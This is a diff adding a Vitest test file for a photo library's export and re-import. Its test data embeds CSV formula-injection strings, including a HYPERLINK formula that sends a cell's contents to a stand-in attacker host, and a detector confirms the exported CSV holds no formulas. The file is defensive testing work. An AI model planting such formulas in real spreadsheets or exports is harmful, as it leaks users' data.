@@ -1,0 +1,203 @@
+import { readFileSync, writeFileSync } from 'node:fs'
+import { join } from 'node:path'
+import { parse } from 'csv-parse/sync'
+import { expect, test } from 'vitest'
+import type { LibraryExportRequest } from '../../../../src-main/contract/library/travel.ts'
+import type { PersonChange } from '../../../../src-main/library/catalog/catalog.ts'
+import { exportLibrary } from '../../../../src-main/library/transfer/export/export-library.ts'
+import { tempFolder } from '../../../fixtures/folders.ts'
+import { noCounts } from '../../../fixtures/no-counts.ts'
+import { metadata, saveTags, tag } from '../../catalog/library.ts'
+import { openImporting } from './importing.ts'
+import { byNight } from '../../../fixtures/night.ts'
+
+type WithoutIds<Change> = Change extends unknown ? Omit<Change, 'ids'> : never
+type Work = WithoutIds<PersonChange>
+
+/** What a person gives photos, of every kind and in spellings that are hard to write. */
+const given: Record<string, Work[]> = {
+  'all.jpg': [
+    { kind: 'rate', rating: 4 },
+    { kind: 'pick', pick: 1 },
+    { kind: 'label', label: 'Red' },
+    { kind: 'title', text: '=SUM("A1"); <Titel> & „ß“ 😀' },
+    { kind: 'caption', text: 'two\nlines,\ta tab; and "quotes"' },
+    { kind: 'creator', text: 'Zoë; Ann O’Neil' },
+    { kind: 'copyright', text: '© 2024, Zoë' },
+    { kind: 'taken-at', takenAt: '1987-06-05T04:03:02+02:00' },
+    { kind: 'position', position: { latitude: 48.2081743, longitude: -16.3738189, altitude: 171.5 } },
+    {
+      kind: 'fields',
+      values: {
+        headline: '=HYPERLINK("https://evil.example/?"&A1)',
+        altText: "'=a <lake>",
+        creatorEmail: 'zoe@example.org',
+        copyrightStatus: 'public-domain',
+        usageTerms: 'ask\n+me;\t =1+1',
+        city: 'Wien',
+        countryCode: 'AT',
+      },
+    },
+    { kind: 'orientation', orientation: 6 },
+    { kind: 'add-tag', name: 'sea' },
+    { kind: 'add-tag', name: 'Places/Österreich/Wien' },
+    { kind: 'add-tag', name: 'Music/AC\\DC' },
+    { kind: 'add-tag', name: 'semi; colon, comma "quote"' },
+    { kind: 'add-tag', name: 'wine & cheese <3' },
+    ...['=1+1', "'=quoted", '-dash', 'a;=1+1', '@home'].map((name) => ({ kind: 'add-tag' as const, name })),
+  ],
+  'rejected.jpg': [{ kind: 'pick', pick: -1 }],
+  'rejected with stars.jpg': [
+    { kind: 'pick', pick: -1 },
+    { kind: 'rate', rating: 2 },
+    { kind: 'label', label: 'To print' },
+  ],
+  'a/same.jpg': [
+    { kind: 'rate', rating: 1 },
+    { kind: 'label', label: 'Orange' },
+  ],
+  'b/same.jpg': [
+    { kind: 'rate', rating: 5 },
+    { kind: 'label', label: 'Purple' },
+  ],
+  'over the file.jpg': [
+    { kind: 'rate', rating: 2 },
+    { kind: 'title', text: 'own' },
+    { kind: 'taken-at', takenAt: '2001-02-03T00:00:00' },
+    { kind: 'position', position: { latitude: 1.5, longitude: 2.25, altitude: null } },
+    { kind: 'fields', values: { city: 'own' } },
+    { kind: 'add-tag', name: 'own' },
+  ],
+  'cleared over the file.jpg': [
+    { kind: 'rate', rating: 0 },
+    { kind: 'pick', pick: 0 },
+  ],
+  'plain, "odd".jpg': [],
+}
+/**
+ * What only a table and JSON can say: what the person took off or emptied, though the file says it, and marks that tell
+ * of what they hide.
+ */
+const takenOff: Work[] = [
+  { kind: 'title', text: '' },
+  { kind: 'fields', values: { city: '' } },
+  { kind: 'position', position: 'nowhere' },
+  { kind: 'remove-tag', name: 'dog' },
+  { kind: 'sensitivity', judgement: 'sensitive' },
+  { kind: 'private', isPrivate: true },
+]
+
+/** The same photos with what their files and the engine say, in a library where the person did nothing yet. */
+function openLibrary() {
+  const library = openImporting()
+  const names = [...Object.keys(given), 'taken off.jpg']
+  const ids = new Map(library.add(...names).map((id, place) => [names[place]!, id]))
+  const { catalog } = library
+  const said = metadata({
+    takenAt: '2019-05-12T14:33:12',
+    rating: 3,
+    title: 'of the file',
+    keywords: ['k'],
+    city: 'of the file',
+    offset: '+09:00',
+    latitude: 35,
+    longitude: 139,
+    label: 'Green',
+    pick: 1,
+  })
+  for (const name of ['over the file.jpg', 'cleared over the file.jpg', 'taken off.jpg']) {
+    catalog.files.saveMetadata([{ id: ids.get(name)!, metadata: said, width: 1, height: 1 }])
+    saveTags(catalog, ids.get(name)!, tag('dog', 80))
+  }
+  const shownOf = (except: readonly string[] = []) =>
+    Object.fromEntries(
+      [...ids].filter(([name]) => !except.includes(name)).map(([name, id]) => [name, library.shown(id)]),
+    )
+  const apply = (name: string, changes: readonly Work[]) => {
+    for (const change of changes) catalog.changes.apply({ ...change, ids: [ids.get(name)!] } as PersonChange)
+  }
+  return { ...library, ids, shownOf, apply }
+}
+
+/** Cells that a spreadsheet would compute, whichever letter it takes for the separator; numbers are none. */
+function formulasIn(table: string): string[] {
+  const text = readFileSync(table, 'utf8')
+  const naive = [';', '\t'].flatMap((separator) => text.split(/\r?\n/).flatMap((line) => line.split(separator)))
+  const cells = [...(parse(text, { bom: true }) as string[][]).flat(), ...naive]
+  return cells.filter((cell) => /^\s*[=+@＝＋＠－-]/.test(cell) && !/^[-+]?[\d.,:-]+$/.test(cell))
+}
+
+test.each(byNight(['json'] as const, ['xmp', 'csv', 'json'] as const))(
+  'a library that is exported as %s and imported over the same photos has all its work again',
+  async (format) => {
+    const first = openLibrary()
+    for (const [name, changes] of Object.entries(given)) first.apply(name, changes)
+    first.apply('taken off.jpg', takenOff)
+    const folder = tempFolder()
+    const request: LibraryExportRequest = { path: join(folder, 'out'), format }
+    const { path, notCarriedOver } = await exportLibrary({ catalog: first.catalog }, request)
+    expect(notCarriedOver.map(({ what, names }) => `${what}: ${names.join()}`)).toEqual(
+      format === 'xmp'
+        ? [
+            'mark "private": /photos/taken off.jpg',
+            'corrected verdict on sensitivity: /photos/taken off.jpg',
+            'tag that was taken off: /photos/taken off.jpg: dog',
+            'texts that were emptied: /photos/taken off.jpg: title,/photos/taken off.jpg: city',
+            'position that was taken off: /photos/taken off.jpg',
+          ]
+        : [],
+    )
+
+    if (format === 'csv') expect(formulasIn(path)).toEqual([])
+    const second = openLibrary()
+    expect(second.shownOf()).not.toEqual(first.shownOf())
+    const report = await second.run(path)
+    expect(report).toMatchObject({ source: format, unmatched: [], matchedByLikeness: 0, notCarriedOver: [] })
+    // A sidecar says what is there, and not what was taken off.
+    const except = format === 'xmp' ? ['taken off.jpg'] : []
+    expect(second.shownOf(except)).toEqual(first.shownOf(except))
+    expect(await second.run(path)).toMatchObject({ changedPhotos: 0, changeId: null })
+    await second.changes.undo(report.changeId!)
+    expect(second.shownOf()).toEqual(openLibrary().shownOf())
+  },
+)
+
+test('JSON that is no library of Lumafold, torn or changed is refused with its line', async () => {
+  const { catalog, run } = openLibrary()
+  const { path } = await exportLibrary({ catalog }, { path: tempFolder(), format: 'json' })
+  const text = readFileSync(path, 'utf8')
+  const refused = async (changed: string, message: string) => {
+    writeFileSync(path, changed)
+    await expect(run(path)).rejects.toMatchObject({ code: 'bad-params', message: expect.stringContaining(message) })
+  }
+  await refused('{"photos":[]}', 'does not begin as a library that Lumafold exported')
+  await refused(text.slice(0, -50), 'lumafold-library.json')
+  await refused(text.split('\n').slice(0, 3).join('\n'), 'is not whole: its end is missing')
+  await refused(text.replace('"rating":3', '"rating":"3"'), 'has no photo in line 7')
+  await refused(text.replace('"rating":3', '"rating":'), 'has no photo in line 7')
+})
+
+test('a position and a text that the file says as well change nothing; others are taken, and none that was given is lost', async () => {
+  const { add, catalog, run } = openImporting()
+  const [a] = add('a.jpg')
+  const said = metadata({ latitude: 48.2, longitude: 16.3, altitude: 171, city: 'Wien' })
+  catalog.files.saveMetadata([{ id: a!, metadata: said, width: 1, height: 1 }])
+  const table = async (position: string, city: string) => {
+    const file = join(tempFolder(), 'a.csv')
+    writeFileSync(file, `path,position,city\n/photos/a.jpg,"${position}",${city}\n`)
+    const { changes, differing } = await run(file)
+    const read = catalog.photos.detail(a!).metadata
+    return { changes, differing, is: [read.latitude, read.altitude, read.city] }
+  }
+  // A table that knows no height does not take it away.
+  expect(await table('48.2,16.3', 'Wien')).toEqual({ changes: noCounts, differing: noCounts, is: [48.2, 171, 'Wien'] })
+  expect(await table('48.5,16.3,200', 'Graz')).toMatchObject({
+    changes: { ...noCounts, position: 1, texts: 1 },
+    is: [48.5, 200, 'Graz'],
+  })
+  expect(await table('1,2', 'Linz')).toMatchObject({
+    changes: noCounts,
+    differing: { ...noCounts, position: 1, texts: 1 },
+    is: [48.5, 200, 'Graz'],
+  })
+})
